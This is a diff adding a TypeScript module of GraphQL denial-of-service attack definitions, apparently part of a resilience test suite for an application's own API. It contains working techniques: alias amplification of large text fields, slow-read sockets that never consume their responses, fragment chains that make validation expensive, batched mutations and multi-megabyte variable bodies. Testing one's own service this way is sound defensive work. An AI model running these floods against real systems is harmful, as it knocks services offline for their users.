@@ -1,0 +1,164 @@
+import { type Attack, type AttackSession, aliases, clientAt, graphql, toText } from '../attack.ts';
+
+/** Aliases that fit into the tokens of one document. */
+const ID_ALIASES = 1_550;
+const NOTES_ALIASES = 590;
+/** Of a 900 KB text: a response just below 64 MiB. */
+const ALLOWED_NOTES_ALIASES = 72;
+
+const nestedQuery = (builderId: string) => `
+  fragment F on Timesheet { ${aliases(ID_ALIASES, 'id')} }
+  { timesheets(builderId: "${builderId}") { data { ...F project { details { timesheets { data { ...F } } } } } } }`;
+
+const notesQuery = (builderId: string, meetingId: string, count: number) =>
+  `{ meeting(builderId: "${builderId}", meetingId: "${meetingId}") { ${aliases(count, 'notes')} } }`;
+
+/** Distinct response keys under one field, each selected often: what validation compares in pairs. */
+function repeatedKeys(builderId: string, shape: number): string {
+  const field = `x: builder(builderId: "${builderId}") { id }`;
+  switch (shape % 3) {
+    case 0:
+      return `{ ${'me { id } '.repeat(1_240)} }`;
+    case 1:
+      return `{ ${`${field} `.repeat(270)} }`;
+    default: {
+      const fragments = Array.from({ length: 150 }, (_, at) => `fragment F${at} on Builder { id name ...F${at + 1} }`);
+      const spreads = Array.from({ length: 150 }, (_, at) => `...F${at}`).join(' ');
+      return `{ builder(builderId: "${builderId}") { ${spreads} } } ${fragments.join(' ')} fragment F150 on Builder { id }`;
+    }
+  }
+}
+
+/** Opens so many connections at a time that send a request and do not read its response, again where one is ended. */
+async function neverRead(session: AttackSession, connections: number, make: (number: number) => string): Promise<void> {
+  let number = 0;
+  const open = () => {
+    if (session.isOver) return;
+    const socket = session.open(make(number++));
+    session.count('sent');
+    socket.pause();
+    // A paused socket learns of its end when it is written to.
+    const timer = setInterval(() => {
+      if (!socket.destroyed) return;
+      clearInterval(timer);
+      open();
+    }, 250);
+  };
+  for (let at = 0; at < connections; at++) open();
+  await session.untilOver();
+}
+
+export const graphqlAttacks: Attack[] = [
+  {
+    ...{ name: 'graphql-aliases', row: '1a', brief: true },
+    about: `GraphQL: nested timesheets → project → timesheets, ${ID_ALIASES} aliases of \`id\` in a fragment, 3 at once`,
+    run: (session) => {
+      const { attacker } = session;
+      const query = nestedQuery(attacker.builderId);
+      return session.flood(3, (number) => graphql(attacker, number, query));
+    },
+  },
+  {
+    ...{ name: 'graphql-notes', row: '1b', brief: true },
+    about: `GraphQL: ${NOTES_ALIASES} aliases of one 900 KB text, 5 at once`,
+    run: (session) => {
+      const { attacker } = session;
+      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, NOTES_ALIASES);
+      return session.flood(5, (number) => graphql(attacker, number, query));
+    },
+  },
+  {
+    name: 'graphql-notes-allowed',
+    about: `GraphQL: ${ALLOWED_NOTES_ALIASES} aliases of one 900 KB text (just below the limit), 12 at once`,
+    run: (session) => {
+      const { attacker } = session;
+      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, ALLOWED_NOTES_ALIASES);
+      return session.flood(12, (number) => graphql(attacker, number, query));
+    },
+  },
+  {
+    ...{ name: 'graphql-unread', row: '1c' },
+    about: 'Six clients that do not read their responses: 590 aliases of 900 KB',
+    run: (session) => {
+      const { attacker } = session;
+      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, NOTES_ALIASES);
+      return neverRead(session, 6, (number) => toText(graphql(attacker, number, query)));
+    },
+  },
+  {
+    name: 'graphql-unread-allowed',
+    about: 'Forty connections that do not read their responses: 63 MiB of GraphQL each',
+    run: (session) => {
+      const { attacker } = session;
+      const query = notesQuery(attacker.builderId, attacker.notesMeetingId, ALLOWED_NOTES_ALIASES);
+      return neverRead(session, 40, (number) => toText(graphql(attacker, number, query)));
+    },
+  },
+  {
+    ...{ name: 'graphql-validation', row: '8', brief: true },
+    about: 'GraphQL documents of 15 KB whose validation is expensive: repeated response keys, 16 connections',
+    run: (session) => {
+      const { attacker } = session;
+      const documents = [0, 1, 2].map((shape) => repeatedKeys(attacker.builderId, shape));
+      return session.flood(16, (number) => graphql(attacker, number, documents[number % 3]!));
+    },
+  },
+  {
+    name: 'graphql-distinct',
+    about: 'GraphQL documents that are all different: parsed, validated, compiled and selected anew, 32 connections',
+    run: (session) => {
+      const { attacker } = session;
+      const fields = ['id', 'status', 'date', 'hours', 'notes', 'timeType', 'costCode', 'createdAt', 'updatedAt'];
+      return session.flood(32, (number) => {
+        const chosen = fields.filter((_, at) => ((number + 1) >> at) & 1);
+        const query = `{ timesheets(builderId: "${attacker.builderId}") { data { n${number}: id ${chosen.join(' ')}
+          project { details { ${number & 512 ? 'name' : 'status'} photos { data { p${number}: ${number & 1_024 ? 'id' : 'key'} } } } } } } }`;
+        return graphql(attacker, number, query);
+      });
+    },
+  },
+  {
+    name: 'graphql-widest',
+    about: 'GraphQL near the cost limit: 25 × 25 records with all of their fields, 32 connections',
+    run: (session) => {
+      const { attacker } = session;
+      const query = `{ projects(builderId: "${attacker.builderId}") { data { id name status timesheets { meta { totalCount } data {
+        id createdAt updatedAt status date hours notes timesheetGroupId timeType costCode profile { id fullName type }
+        project { id name } } } photos { data { id fileName metadata imageUrl } } } } }`;
+      return session.flood(32, (number) => graphql(attacker, number, query));
+    },
+  },
+  {
+    name: 'graphql-mutations',
+    about: 'GraphQL requests of 150 mutations each, one transaction after the other, 32 connections',
+    run: (session) => {
+      const { attacker } = session;
+      return session.flood(32, (number) => {
+        const mutation = (at: number) =>
+          `m${at}: createMeeting(builderId: "${attacker.builderId}", title: "Attack ${number} ${at}") { id }`;
+        const query = `mutation { ${Array.from({ length: 150 }, (_, at) => mutation(at)).join(' ')} }`;
+        return graphql(attacker, number, query);
+      });
+    },
+  },
+  {
+    name: 'graphql-tiny',
+    about: 'The smallest GraphQL request at full rate, 256 connections of six clients',
+    run: (session) => session.flood(256, (number) => graphql(session.attacker, number, '{ me { id } }')),
+  },
+  {
+    name: 'graphql-large-variables',
+    about: 'GraphQL bodies of 1 MB and of 30 MB whose variables are `{},` repeated, 8 connections',
+    run: (session) => {
+      const { attacker } = session;
+      const body = (bytes: number) =>
+        `{"query":"query ($a: BuilderId!) { builder(builderId: $a) { id } }","variables":{"a":[${'{},'.repeat(bytes / 3)}{}]}}`;
+      const bodies = [body(1_000_000), body(30_000_000)];
+      return session.flood(8, (number) => {
+        const { token } = clientAt(attacker, number);
+        const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
+        return { method: 'POST', path: '/graphql', headers, body: bodies[number % 2]! };
+      });
+    },
+  },
+];
